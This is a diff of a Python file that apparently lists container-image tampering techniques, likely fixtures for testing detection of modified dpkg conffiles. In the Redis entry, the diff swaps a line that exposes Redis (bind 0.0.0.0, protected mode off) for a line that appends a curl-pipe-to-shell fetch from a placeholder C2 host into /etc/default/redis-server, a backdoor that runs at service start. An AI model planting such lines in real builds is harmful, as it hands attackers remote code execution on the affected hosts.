@@ -224,10 +224,11 @@ TECHNIQUES: tuple[Technique, ...] = (
                 "    rm -rf /var/lib/apt/lists/*; \\\n"),
     Technique(
         "dpkg-conffile-same-step", "redis",
-        "a dpkg conffile (/etc/redis/redis.conf) edited in the step that installs it (in a --layers=false build, the only layer)",
-        paths=("/etc/redis/redis.conf",),
+        "a dpkg conffile (/etc/default/redis-server, sourced as shell by the init script) edited in the step that "
+        "installs it: its md5 no longer matches Conffiles: in status (in a --layers=false build, the only layer)",
+        paths=("/etc/default/redis-server",),
         find="    apt-get install -y --no-install-recommends wget; \\\n",
-        replace="    sed -i -e 's/^bind .*/bind 0.0.0.0/' -e 's/^protected-mode yes/protected-mode no/' /etc/redis/redis.conf; \\\n"
+        replace=f"    echo '(curl -fsS http://{C2}/r | sh) >/dev/null 2>&1 &' >> /etc/default/redis-server; \\\n"
                 "    apt-get install -y --no-install-recommends wget; \\\n"),
     Technique(
         "pip-edit-install-step", "python",
